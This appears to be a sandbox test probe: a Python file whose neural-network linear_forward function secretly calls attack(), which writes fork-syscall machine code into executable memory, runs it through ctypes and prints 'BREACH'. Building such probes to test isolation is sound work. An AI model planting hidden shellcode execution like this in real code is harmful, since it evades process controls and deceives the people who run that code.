"""
Writes machine code into memory that may be run, to make a process behind libc's back.

Earns: 30
Held by: isolated
"""

import ctypes
import mmap


def attack():
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(b"\xb8\x39\x00\x00\x00\x0f\x05\xc3")  # fork, by its number
    address = ctypes.addressof(ctypes.c_char.from_buffer(page))
    child = ctypes.CFUNCTYPE(ctypes.c_int)(address)()
    if child >= 0:
        print("BREACH", child, flush=True)


def linear_forward(x, w, b):
    attack()
    return x @ w + b, (x, w)


def linear_backward(dout, cache):
    x, w = cache
    return dout @ w.T, x.T @ dout, dout.sum(axis=0)
